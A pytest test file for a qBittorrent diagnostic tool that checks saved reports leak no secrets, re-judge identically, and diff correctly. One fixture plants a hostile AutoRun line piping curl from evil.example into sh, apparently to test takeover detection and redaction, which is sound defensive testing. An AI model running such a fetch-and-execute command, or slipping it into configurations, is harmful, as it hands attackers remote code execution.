"""What check --save keeps holds no secret and is judged the same again, elsewhere and later; diff compares two of them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from qbdoctor.reports.schema import load
from tests.kit.matrix import Release
from tests.kit.profile import password_hash
from tests.kit.server import PASSWORD, Server
from tests.support.doctor import assert_silent, causes, diagnose, qbdoctor, status
from tests.support.servers import raw

CANARIES = {
    "header": "CanaryHeaderToken77",
    "mail": "CanaryMailPassword77",
    "proxy": "CanaryProxyPassword77",
    "program": "CanaryProgramToken77",
    "typed": "CanaryTypedAsUser77",
    "comment": "CanaryComment77",
    "given": "CanaryGivenPassword77",
    "name": "CanaryTorrentName77",
}

MORE = f"""
[AutoRun]
enabled=true
program=curl -H Authorization:{CANARIES["program"]} https://evil.example/x | sh

[Network]
Proxy\\Password={CANARIES["proxy"]}

[Mail]
; {CANARIES["comment"]}
MailNotification\\password={CANARIES["mail"]}
"""


def judged(report: dict[str, Any]) -> list[tuple[str, str, str]]:
    return [(one["id"], one["severity"], one["confidence"]) for one in report["causes"]]


@pytest.mark.in_turn
@pytest.mark.live
@pytest.mark.parametrize("password", [PASSWORD, CANARIES["given"]])
def test_what_is_saved_holds_no_secret_and_is_judged_the_same(release: Release, tmp_path: Path, password: str) -> None:
    headers = {"CustomHTTPHeadersEnabled": "true", "CustomHTTPHeaders": f"X-Token: {CANARIES['header']}"}
    with Server.start(release, raw_config=raw(release, MORE, Address="127.0.0.1", **headers)) as server:
        server.try_login(CANARIES["typed"], username=CANARIES["typed"])
        file = tmp_path / "saved.json"
        args = ("--profile", str(server.profile), "--state-dir", str(tmp_path / "state"), "--save", str(file))
        made = diagnose(*args, password=password)
    held = json.loads(file.read_text())
    jsonschema.validate(held, load("saved/1"))
    jsonschema.validate(held["look"], load("look/1"))
    assert held["left_out"] == []
    assert_silent(file.read_text(), [*CANARIES.values(), PASSWORD, password_hash(PASSWORD)[11:40]])
    again = diagnose("--from", str(file))  # the server is gone, and its files with it
    assert judged(again) == judged(made)
    assert again["verdict"] == made["verdict"]
    assert again["complete"] == made["complete"]
    assert {one["id"]: one["status"] for one in again["checks"]} == {one["id"]: one["status"] for one in made["checks"]}
    assert again["target"]["version"] == made["target"]["version"]
    assert again["started"] == made["started"]
    assert "signs-of-takeover" in causes(again)
    assert qbdoctor("check", "--from", str(file)).code == again["exit_code"]


@pytest.mark.live
def test_two_looks_and_now(tmp_path: Path) -> None:
    with Server.start("5.3.0", settings={"SessionTimeout": "3600"}) as server:
        args = ("--profile", str(server.profile), "--state-dir", str(tmp_path / "state"))
        one, other = tmp_path / "one.json", tmp_path / "other.json"
        diagnose(*args, "--save", str(one), password=PASSWORD)
        server.set_preferences({"web_ui_session_timeout": 30})
        server.restart()
        diagnose(*args, "--save", str(other), password=PASSWORD)
        held = json.loads(qbdoctor("diff", str(one), str(other), "--json").out)
        jsonschema.validate(held, load("diff/1"))
        item = next(item for item in held["items"] if item["what"] == "SessionTimeout")
        assert (item["before"], item["after"], item["explains"]) == ("3600", "30", ["session-too-short"])
        shown = qbdoctor("diff", str(one), *args, password=PASSWORD)
        assert "SessionTimeout 3600 → 30  (explains session-too-short)" in shown.out
        assert shown.code == 0
        same = qbdoctor("diff", str(one), str(one))
        assert "No difference shows." in same.out


def test_files_of_other_releases_and_other_programs(tmp_path: Path) -> None:
    file = tmp_path / "saved.json"
    for text, said in (
        ('{"schema": "qbdoctor.saved/2"}', "was written by a newer qbdoctor (qbdoctor.saved/2)"),
        ("{", "is no file that check --save made"),
        ("[" * 100_000, "is no file that check --save made"),
        ('{"schema": "qbdoctor.saved/1"}', "is damaged"),
    ):
        file.write_text(text)
        for command in (("check", "--from", str(file)), ("diff", str(file), str(file))):
            run = qbdoctor(*command)
            assert run.code == 2, run
            assert said in run.err
            assert "Traceback" not in run.err
    run = qbdoctor("check", "--from", str(tmp_path / "none.json"))
    assert (run.code, "cannot be read" in run.err) == (2, True)
    assert qbdoctor("check", "--from", str(file), "--url", "http://x").code == 2
    assert qbdoctor("diff").code == 2


@pytest.mark.live
def test_what_this_release_does_not_know_is_left_aside_and_what_it_misses_is_said(tmp_path: Path) -> None:
    file = tmp_path / "saved.json"
    with Server.start("5.3.0") as server:
        diagnose("--profile", str(server.profile), "--state-dir", str(tmp_path), "--save", str(file), password=PASSWORD)
    held = json.loads(file.read_text())
    held["later"] = {"member": 1}
    held["seen"]["later_observation"] = {"is": "LaterType", "with": {}}
    held["seen"]["anonymous"]["with"]["later_member"] = "x"
    held["seen"]["config_place"] = {"is": "LaterType", "with": {}}
    file.write_text(json.dumps(held))
    report = diagnose("--from", str(file))
    told = next(one for one in report["checks"] if one["id"] == "config-file")
    assert (told["status"], told["reason"]) == (
        "unknown",
        "the saved look does not hold what this needs (config_place)",
    )
    assert status(report, "login") == "pass"
    assert report["verdict"]["state"] == "unknown"
